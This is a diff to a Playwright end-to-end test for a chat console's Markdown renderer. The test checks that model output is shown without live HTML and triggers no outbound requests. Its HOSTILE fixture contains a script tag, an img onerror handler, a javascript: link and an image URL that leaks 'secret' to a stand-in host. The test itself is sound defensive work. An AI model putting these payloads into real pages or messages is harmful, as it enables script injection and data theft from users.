@@ -2,6 +2,7 @@
 import { encode } from "fast-png";
 import type { Page } from "playwright-core";
 import { describe, expect, inject, it } from "vitest";
+import { faultsOf, NARROW } from "./axe.ts";
 import { openSession, shoot } from "./browser.ts";
 import type { EngineState } from "./engine.ts";
 import { ENGINE_MODEL } from "./gateways.ts";
@@ -11,6 +12,25 @@ const TOOL = {
 	type: "function",
 	function: { name: "get_weather", parameters: { type: "object", properties: { city: { type: "string" } } } },
 };
+/** Markdown that tries to run a script and to send requests. */
+const HOSTILE = [
+	"# Title",
+	"Some **bold** text and `code`.",
+	"<script>document.title = 'script'</script>",
+	'<img src="https://elsewhere.example/tag.png" onerror="document.title = 1">',
+	"",
+	"![image](https://elsewhere.example/image.png?text=secret)",
+	"[script](javascript:document.title='link') [data](data:text/html,hello) [page](/console/tokens)",
+	"[web](https://elsewhere.example/page)",
+	"",
+	"| Engine | Tokens |",
+	"| --- | --- |",
+	"| one | 12 |",
+	"",
+	"```js",
+	"const answer = 42;",
+	"```",
+].join("\n");
 const SCHEMA = { type: "object", properties: { name: { type: "string" } }, required: ["name"] };
 
 const engineState = async (): Promise<EngineState> =>
@@ -55,6 +75,37 @@ describe("a chat", () => {
 		await expect.poll(engineState).toEqual({ open: 0, closed: closed + 1 });
 		await page.getByRole("button", { name: "Send" }).waitFor();
 		expect(await page.getByRole("article", { name: "Model" }).textContent()).toContain("One two three");
+		await tab.close();
+	});
+
+	it("renders Markdown without its HTML, and sends no request to an address in it", async () => {
+		const tab = await openSession("dev", "/console");
+		const { page } = tab;
+		await send(page, `Reply with exactly: ${HOSTILE}`);
+		await page.getByRole("region", { name: "Measurements" }).waitFor();
+		const answer = page.getByRole("article", { name: "Model" });
+		await answer.getByRole("heading", { name: "Title" }).waitFor();
+		expect(await answer.locator("strong, code, td").allTextContents()).toEqual([
+			"Model",
+			"bold",
+			"code",
+			"one",
+			"12",
+		]);
+		expect(await answer.getByLabel("code", { exact: true }).textContent()).toBe("const answer = 42;");
+		expect(await answer.locator("script, img, iframe").count()).toBe(0);
+		expect(await answer.getByText("<script>").count()).toBe(1);
+		expect(
+			await answer.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
+		).toEqual(["https://elsewhere.example/image.png?text=secret", "https://elsewhere.example/page"]);
+		expect(await faultsOf(page)).toEqual([]);
+		await shoot(page, "markdown-1280");
+		await page.setViewportSize(NARROW);
+		expect(await page.evaluate("document.documentElement.scrollWidth")).toBeLessThanOrEqual(NARROW.width);
+		await shoot(page, "markdown-360");
+		await page.getByRole("switch", { name: "Render Markdown" }).click();
+		await answer.getByText("**bold**").waitFor();
+		expect(await page.title()).toBe("Ganglion");
 		await tab.close();
 	});
 
